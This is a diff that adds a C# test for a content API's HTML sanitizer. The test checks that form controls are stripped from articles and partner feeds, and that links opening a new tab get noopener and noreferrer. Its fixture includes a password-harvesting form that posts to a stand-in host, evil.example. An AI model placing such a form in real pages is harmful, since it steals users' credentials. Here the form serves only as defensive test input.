@@ -33,6 +33,41 @@ public sealed partial class ArticleBodyTests(ContentApiFactory api) : IClassFixt
     }
 
     [Fact]
+    public async Task RemovesFormControls_AndGivesLinksThatOpenElsewhereRelNoopenerNoreferrer_InTheArticleAndPartnerFeeds()
+    {
+        var client = api.CreateClient();
+        const string Markdown = "Read on.\n\n<form action=\"https://evil.example/steal\" method=\"post\"><label>Password <input name=\"p\" type=\"password\"></label>"
+            + "<select name=\"s\"><option>x</option></select><textarea name=\"t\"></textarea><button formaction=\"https://evil.example\">Send</button></form>\n\n"
+            + "<a href=\"https://news.example/a\" target=\"_blank\">away</a> and <a href=\"https://news.example/b\" target=\"_blank\" rel=\"nofollow\">further</a> "
+            + "and [here](https://news.example/c).";
+        var created = await client.CreateArticleAsync(await client.NewArticleRequestAsync() with { Body = Markdown });
+        using var partner = api.CreateClientFor(ContentApi.Data.ApiRole.Partner);
+
+        var (article, _) = await client.GetArticleAsync(created.Id);
+        var feed = (await partner.GetStringAsync($"/v1/feeds/articles.json?section={Uri.EscapeDataString(created.Section)}"));
+        var fromFeed = System.Text.Json.JsonDocument.Parse(feed).RootElement.GetProperty("items").EnumerateArray()
+            .Single(i => i.GetProperty("id").GetString()!.EndsWith($"/{created.Id}", StringComparison.Ordinal)).GetProperty("content_html").GetString()!;
+
+        foreach (var html in new[] { article.Body.Html, fromFeed })
+        {
+            foreach (var control in new[] { "<form", "<input", "<button", "<select", "<option", "<textarea", "<label", "action=", "evil.example" })
+            {
+                Assert.DoesNotContain(control, html, StringComparison.OrdinalIgnoreCase);
+            }
+
+            var opening = Regex.Matches(html, "<a [^>]*>").Select(m => m.Value).ToList();
+            Assert.Equal(3, opening.Count);
+            Assert.All(opening.Where(a => a.Contains("target=", StringComparison.Ordinal)), a =>
+            {
+                Assert.Matches("rel=\"[^\"]*\\bnoopener\\b", a);
+                Assert.Matches("rel=\"[^\"]*\\bnoreferrer\\b", a);
+            });
+            Assert.Contains("nofollow", opening[1], StringComparison.Ordinal);
+            Assert.DoesNotContain("rel=", opening[2], StringComparison.Ordinal);
+        }
+    }
+
+    [Fact]
     public async Task KeepsLegitimateMarkdown()
     {
         var client = api.CreateClient();
